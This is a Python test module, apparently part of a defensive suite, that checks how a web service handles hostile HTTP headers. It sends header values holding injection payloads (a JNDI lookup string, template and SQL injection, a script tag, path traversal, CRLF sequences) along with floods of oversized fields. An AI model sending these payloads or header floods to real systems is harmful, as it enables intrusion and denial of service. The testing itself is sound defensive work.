"""Header fields: too many, too long, and values that want to be lines of a log or headers of an answer."""

import re

from .server import answers

GOOD_ID = "attack-1"
# Values of fields that a service repeats or logs; as bytes, for some are no text.
HOSTILE = [
    b'x" injected="1', b"x\\nlevel=error", b"{{7*7}}", b"${jndi:ldap://attack/a}", b"<script>alert(1)</script>", b"%0d%0aX: y",
    b"\xff\xfe", b"a" * 8000, b"'; DROP TABLE jobs;--", b"../../etc/passwd", b"127.0.0.1", b"\xe2\x80\xae"]
REPEATED = [
    b"X-Request-Id", b"traceparent", b"tracestate", b"User-Agent", b"X-Forwarded-For", b"Forwarded", b"X-Forwarded-Host",
    b"X-Real-IP", b"Referer", b"Origin", b"Idempotency-Key", b"If-None-Match", b"Range", b"Accept", b"Accept-Encoding",
    b"Cookie", b"Last-Event-ID", b"Content-Type"]


def attack(server, report):
    for name in REPEATED:
        for value in HOSTILE:
            repeated(server, report, name, value)
    received, _ = server.exchange(server.request(b"GET /health/live", b"X-Request-Id: attack-1\r\nConnection: close\r\n"))
    report.check("headers", "a sane X-Request-Id is kept", GOOD_ID.encode() in received, received[:12])
    for name, headers in [
        ("250 fields", b"".join(b"X-%d: a\r\n" % number for number in range(250))),
        ("100,000 fields", b"".join(b"X-%d: a\r\n" % number for number in range(100_000))),
        ("value of 1 MB", b"X: " + b"a" * (1 << 20) + b"\r\n"),
        ("name of 1 MB", b"a" * (1 << 20) + b": x\r\n"),
        ("1 MB in fields of 30 kB", b"".join(b"X-%d: %s\r\n" % (n, b"a" * 30_000) for n in range(35))),
        ("cookies of 64 kB", b"Cookie: " + b"; ".join(b"a%d=b" % number for number in range(10_000)) + b"\r\n"),
    ]:
        received, closed = server.exchange(server.request(b"GET /health/live", headers))
        statuses = [status for status, _, _ in answers(received)]
        # One that has not read all may lose its own refusal when it closes.
        is_right = closed and statuses in ([400], [431], [])
        report.check("headers", name, is_right, f"{statuses} {'closed' if closed else 'left open'}")
    for value in ("1" * 5000, "-1", "bytes=0-1," * 2000, "bytes=-99999999999999999999"):
        status, _, _ = server.call("GET", "/openapi.json", headers={"Range": value})
        report.check("headers", f"Range: {value[:30]}", status in (200, 206, 400, 416), status)


def repeated(server, report, name, value):
    """The answer is one that this request may get, with one block of headers and nothing of the value in them."""
    request = server.request(b"GET /api/v1/jobs?limit=1", name + b": " + value + b"\r\nConnection: close\r\n")
    received, _ = server.exchange(request)
    found = answers(received)
    fields = found[0][1] if found else {}
    is_right = len(found) == 1 and found[0][0] in (200, 304, 400, 401, 431)
    shown = value.decode("latin-1")
    leaked = [key for key, text in fields.items() if shown in text and len(shown) > 3 and key not in ("vary",)]
    # An id of harmless characters is the request's own.
    if re.fullmatch(r"[\w.:+/=@-]{1,128}", shown, re.ASCII) and leaked == ["x-request-id"]:
        leaked = []
    is_right = is_right and not leaked
    report.check(
        "headers", f"{name.decode()}: {value[:24].decode('latin-1')}", is_right,
        [status for status, _, _ in found], f"{[status for status, _, _ in found]} said back in {leaked}")
